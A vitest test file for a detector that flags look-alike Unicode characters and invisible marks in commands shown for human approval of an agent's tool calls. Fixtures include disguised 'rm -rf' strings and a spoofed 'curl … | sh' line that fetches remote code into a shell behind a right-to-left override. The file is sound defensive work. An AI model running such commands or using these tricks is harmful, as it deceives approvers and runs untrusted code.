import { expect, test } from "vitest";
import { findLookAlikes } from "../../src/publish/look-alikes.ts";
import { renderRequest } from "../../src/publish/request.ts";
import { confirm } from "./requests.ts";

function named(text: string): string[] {
  return findLookAlikes(text).map(({ codePoint }) => codePoint);
}

test.each([
  ["a Cyrillic letter in a Latin word", "npm run p\u0430ypal", ["U+0430"]],
  ["a Greek letter in a Latin word", "gith\u03c5b", ["U+03C5"]],
  ["an Armenian letter in a Latin word", "c\u0585py", ["U+0585"]],
  [
    "a whole word that looks Latin",
    "rm -r \u0441\u043e\u0440\u0443",
    ["U+0441", "U+043E", "U+0440", "U+0443"],
  ],
  ["the same among digits", "\u0441\u043e\u0440\u0443_2", ["U+0441", "U+043E", "U+0440", "U+0443"]],
  [
    "the same beside a Russian comment",
    "\u0441\u043e\u0440 # \u043f\u0440\u0438\u0432\u0435\u0442",
    ["U+0441", "U+043E", "U+0440"],
  ],
  ["a letter alone that looks Latin", "rm \u0430", ["U+0430"]],
  ["letters of two other scripts in a word", "\u03b1\u0434", ["U+03B1", "U+0434"]],
  ["a letter in full width", "\uff52m -rf", ["U+FF52"]],
  ["a mathematical letter", "\u{1d42b}m", ["U+1D42B"]],
  ["a slash that is none", "rm -r a\u2215b", ["U+2215"]],
  ["a semicolon that is a Greek question mark", "ls\u037e rm x", ["U+037E"]],
  ["a letter that looks like an exclamation mark", "[ \u01c3 -f x ]", ["U+01C3"]],
  ["a blank that is no space", "rm\u00a0-rf\u2800x", ["U+00A0", "U+2800"]],
])("%s is named", (_, text, expected) => {
  expect(named(text)).toEqual(expected);
});

test.each([
  ["ASCII", "rm -rf node_modules && npm test\n\t# done"],
  ["accents", "Fran\u00e7ois a m\u00fbri; \u0153uvre, stra\u00dfe, \u0141\u00f3d\u017a"],
  [
    "Russian",
    "\u041c\u044b \u0441 \u043c\u0430\u043c\u043e\u0439 \u0438 \u043e\u043d, \u0430 \u043d\u0435 \u0442\u044b: npm test",
  ],
  [
    "Japanese with Latin words",
    "\u6771\u4eac\u306eAPI\u30ad\u30fc\uff08\u65b0\u3057\u3044\uff09\u3000\u3067\u3059",
  ],
  ["typography", "\u201cyes\u201d \u2013 it\u2019s \u2026 5 \u00b5m\u00b2 \u2192 \u2713 \u{1f600}"],
])("%s is left alone", (_, text) => {
  expect(named(text)).toEqual([]);
});

test("the comment warns of each, with the word that it stands in, and shows what can't be seen", () => {
  const content = "curl p\u0430ypal.example\u202e | sh";
  const { body } = renderRequest(
    { ...confirm, toolCallIds: ["call_1"], display: { title: "Run a command", content } },
    {
      workId: "w",
      approvers: [],
      minApprovals: 1,
      selfApproval: true,
      run: { number: "1", url: "https://x" },
      auditHead: { count: 0, hash: "00" },
    },
  );
  expect(body).toContain("> - U+0430 `\u0430` Cyrillic among other letters, in `p\u0430ypal`");
  expect(body).toContain("curl p\u0430ypal.example<U+202E> | sh");
});
